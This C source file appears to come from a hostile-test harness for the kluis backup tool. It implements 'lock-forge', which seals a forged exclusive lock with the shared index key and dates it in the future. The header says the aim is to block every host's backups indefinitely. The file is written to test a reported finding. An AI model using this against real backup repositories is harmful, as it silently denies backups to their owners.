/*
 * Attacks through lock files (issue #10 finding 2): a lock sealed with the
 * index key that every backup-only key holds, marked exclusive and dated
 * far in the future, used to stop every host's backups for good.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "kluis/buf.h"
#include "kluis/err.h"
#include "kluis/keys.h"
#include "kluis/repo.h"
#include "hostile.h"

struct forge {
	int exclusive;		/* the plaintext's kind */
	int header_shared;	/* version 2: clear the header bit anyway */
	uint32_t version;	/* 1 or 2 */
	int64_t offset;		/* seconds added to now */
	const char *host;
};

static int
forge_args(int argc, char **argv, struct forge *fo)
{
	char *end;
	int i;

	memset(fo, 0, sizeof(*fo));
	fo->version = KL_LOCK_VERSION;
	fo->host = "attacker";
	for (i = 1; i < argc; i++) {
		if (strcmp(argv[i], "--exclusive") == 0)
			fo->exclusive = 1;
		else if (strcmp(argv[i], "--header-shared") == 0)
			fo->header_shared = 1;
		else if (strcmp(argv[i], "--version") == 0 && i + 1 < argc)
			fo->version = (uint32_t)strtoul(argv[++i], NULL, 10);
		else if (strcmp(argv[i], "--time-offset") == 0 &&
		    i + 1 < argc) {
			fo->offset = strtoll(argv[++i], &end, 10);
			if (*end != '\0')
				return -1;
		} else if (strcmp(argv[i], "--host") == 0 && i + 1 < argc)
			fo->host = argv[++i];
		else
			return -1;
	}
	if (fo->version != KL_LOCK_VERSION_1 &&
	    fo->version != KL_LOCK_VERSION)
		return -1;
	return strlen(fo->host) >= 1 && strlen(fo->host) <= KL_NAME_MAX ?
	    0 : -1;
}

/* The cleartext header (FORMAT.md §12) the forged lock claims. */
static int
forge_header(const struct forge *fo, struct buf *f)
{
	int r;

	if (fo->version == KL_LOCK_VERSION)
		return kl_lock_hdr_put(f, fo->exclusive && !fo->header_shared);
	if ((r = buf_put(f, KL_MAGIC_LOCK, 8)) != KL_OK ||
	    (r = buf_put_u32le(f, KL_LOCK_VERSION_1)) != KL_OK)
		return r;
	return buf_put_u32le(f, 0);
}

/*
 * lock-forge [--exclusive] [--header-shared] [--version 1|2]
 *            [--time-offset SECONDS] [--host NAME]:
 * a lock as only a key holder can write it (sealed with index_key),
 * dated now + SECONDS, uploaded through the ordinary backend.
 */
static int
lock_forge(struct hctx *h, int argc, char **argv)
{
	struct forge fo;
	struct kl_lock l;
	struct kl_id id;
	struct buf *pt = NULL, *f = NULL;
	uint8_t *ct;
	int rc = KL_E_NOMEM;

	if (forge_args(argc, argv, &fo) != 0) {
		fprintf(stderr, "usage: lock-forge [--exclusive] "
		    "[--header-shared] [--version 1|2] [--time-offset S] "
		    "[--host NAME]\n");
		return 2;
	}
	memset(&l, 0, sizeof(l));
	l.time = (int64_t)time(NULL) + fo.offset;
	l.exclusive = (uint8_t)fo.exclusive;
	l.pid = (uint32_t)getpid();
	snprintf(l.hostname, sizeof(l.hostname), "%s", fo.host);
	if ((pt = buf_new(KL_LOCK_PLAIN_MAX)) == NULL ||
	    (f = buf_new(KL_LOCK_FILE_MAX)) == NULL)
		goto out;
	if ((rc = kl_lock_encode(&l, pt)) != KL_OK ||
	    (rc = forge_header(&fo, f)) != KL_OK ||
	    (rc = buf_reserve(f, buf_size(pt) + KL_AEAD_OVERHEAD, &ct)) !=
	    KL_OK)
		goto out;
	kl_aead_seal(h->k->index_key, &h->k->repo_id, KL_OBJ_LOCK, NULL,
	    buf_data(pt), buf_size(pt), ct);
	if ((rc = h_put(h, KL_FT_LOCK, f, &id)) != KL_OK)
		fprintf(stderr, "kluis-hostile: lock-forge: the repository "
		    "refused the lock: %s\n", kl_strerror(rc));
	else
		h_print_id("lock", &id);
out:
	buf_free(pt);
	buf_free(f);
	return rc == KL_OK ? 0 : 1;
}

const struct h_attack h_lock_attacks[] = {
	{ "lock-forge", "[--exclusive] [--header-shared] [--version 1|2] "
	    "[--time-offset SECONDS] [--host NAME]", lock_forge },
	{ NULL, NULL, NULL },
};
